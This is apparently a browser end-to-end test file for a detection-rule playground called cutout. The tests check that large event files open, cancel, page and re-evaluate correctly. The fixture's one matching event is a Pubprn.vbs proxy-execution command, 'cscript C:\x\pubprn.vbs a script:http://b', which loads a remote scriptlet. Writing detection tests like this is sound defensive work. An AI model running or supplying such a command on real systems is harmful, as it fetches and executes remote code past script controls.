// Large files: their text stays with the worker, and the page shows the lines that are looked at.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { after } from 'node:test';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { gzipSync } from 'node:zlib';
import { caretLine, read } from './editor.mjs';
import { journey } from './journey.mjs';
import { events, headline, openRules, paste } from './states.mjs';

const folder = mkdtempSync(join(tmpdir(), 'cutout-'));
after(() => rmSync(folder, { recursive: true }));

const made = (name, text) => {
  writeFileSync(join(folder, name), text);
  return join(folder, name);
};
const maker = fileURLToPath(new URL('../../scripts/many-events.mjs', import.meta.url));
const text = execFileSync('node', [maker, '100000'], { maxBuffer: 1 << 30 });
const hundredThousand = made('events.ndjson', text);
/** Just more than the editor takes: most lines are quiet, and the last one matches. */
const quiet = 'C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule\n';
const scriptlet = 'cscript C:\\x\\pubprn.vbs a script:http://b';
const lines = Math.ceil((9 << 20) / quiet.length);
const nineMegabytes = made('lines.txt', quiet.repeat(lines) + scriptlet);

// The command line, where the Rust tests have built it.
const built = join(process.env.CARGO_TARGET_DIR ?? fileURLToPath(new URL('../../target', import.meta.url)), 'debug/cutout');
const program = existsSync(built) ? built : undefined;
console.log(`cutout eval: ${program ? 'found, compared with' : 'not here, skipped'}`);

const open = (page, file) =>
  page.locator('#events-file').setInputFiles(
    typeof file === 'string' ? file : { name: 'lines.txt.gz', mimeType: 'application/gzip', buffer: file });
const grouped = (number) => number.toLocaleString('en-US');
const editor = (page) => page.getByLabel('Events: command lines or log records');
const message = (page, text) => page.getByRole('status', { name: 'Messages' }).getByText(text).waitFor();
const progress = (page) => page.getByRole('progressbar', { name: 'Evaluation' });

journey('a hundred thousand events open with progress, and the page reacts meanwhile', async (page) => {
  await open(page, hundredThousand);
  await progress(page).waitFor();
  await page.getByRole('button', { name: 'About' }).click();
  await page.getByRole('dialog').waitFor();
  assert.ok(await progress(page).isVisible());
  await page.keyboard.press('Escape');
  await message(page, /events\.ndjson, 56 MB\. Files this large are for reading/);
  await headline(page, '100 of 100,000 events match');
  assert.ok((await read(editor(page))).startsWith(text.toString('utf8', 0, 3000)));
  if (program) {
    const exported = page.waitForEvent('download');
    await page.getByLabel('Export the verdicts').selectOption('Verdicts as JSON lines');
    const said = readFileSync(await (await exported).path(), 'utf8');
    const evaluated = execFileSync(program, ['eval', '--pack', 't1216', '--json', hundredThousand], { maxBuffer: 1 << 28 });
    assert.equal(said, evaluated.toString());
  }
});

journey('to cancel a large file leaves the work before', async (page) => {
  await paste(page, scriptlet);
  await headline(page, 'The event matches');
  await open(page, hundredThousand);
  await page.getByRole('button', { name: 'Cancel' }).click();
  await message(page, 'The file was not opened: it was cancelled.');
  await headline(page, 'The event matches');
  assert.equal(await read(editor(page)), scriptlet);
});

journey('the lines of a large file come as they are looked at', async (page) => {
  await open(page, nineMegabytes);
  await headline(page, `1 of ${grouped(lines + 1)} events matches`);
  await page.getByRole('button', { name: /Match$/ }).first().click();
  await events(page).getByRole('row').filter({ hasText: 'pubprn' }).click();
  await page.getByRole('heading', { name: `Line ${lines + 1}` }).waitFor();
  await page.getByRole('button', { name: 'Show in text' }).click();
  await page.waitForFunction(() => document.querySelector('#events-text').cutoutEditor.text().includes('pubprn'));
  assert.equal(await caretLine(editor(page)), lines + 1);
  // No more of it is in the page than around what is looked at.
  assert.ok((await read(editor(page))).length < lines + 200 * quiet.length);
  await page.keyboard.type('nothing changes');
  assert.ok((await read(editor(page))).endsWith(scriptlet));
});

journey('a large file is read in a plain text area, too', async (page) => {
  await page.getByRole('checkbox', { name: 'Plain' }).check();
  await open(page, nineMegabytes);
  await headline(page, `1 of ${grouped(lines + 1)} events matches`);
  assert.equal(await read(editor(page)), quiet.repeat(200).trimEnd());
  const pages = page.getByRole('navigation', { name: 'Lines of the file' });
  await pages.getByRole('button', { name: 'Last' }).click();
  await pages.getByText(new RegExp(`–${grouped(lines + 1)} of`)).waitFor();
  assert.ok((await read(editor(page))).endsWith(scriptlet));
});

journey('a large file gives way to other text, and comes back', async (page) => {
  await open(page, gzipSync(readFileSync(nineMegabytes), { level: 1 }));
  await message(page, /lines\.txt\.gz: gzip, unpacked: text\. Files this large/);
  const matches = `1 of ${grouped(lines + 1)} events matches`;
  await headline(page, matches);
  await page.getByRole('button', { name: 'Clear' }).click();
  await page.getByText('The text was cleared.').waitFor();
  await page.getByRole('button', { name: 'Undo' }).click();
  await headline(page, matches);
  // A worker that dies reads it again.
  await page.workers()[0].evaluate(() => setTimeout(() => { throw new Error('made to fail'); }));
  await page.getByText('The evaluation stopped').waitFor();
  await page.getByTestId('worker-state').getByText('Ready').waitFor();
  await headline(page, matches);
  await page.getByRole('button', { name: 'Share' }).click();
  await page.getByText('No events: those of a file this large stay in the file').waitFor();
});

journey('rules are changed while a large file is open', async (page) => {
  await open(page, nineMegabytes);
  const matches = `1 of ${grouped(lines + 1)} events matches`;
  await headline(page, matches);
  await page.getByRole('checkbox', { name: 'Any logsource' }).check();
  await headline(page, matches);
  await openRules(page);
  await page.getByRole('switch', { name: 'Evaluate Pubprn.vbs Proxy Execution' }).click();
  await page.getByRole('navigation', { name: 'Views' }).getByRole('link', { name: 'Playground' }).click();
  await headline(page, `None of ${grouped(lines + 1)} events match`);
});
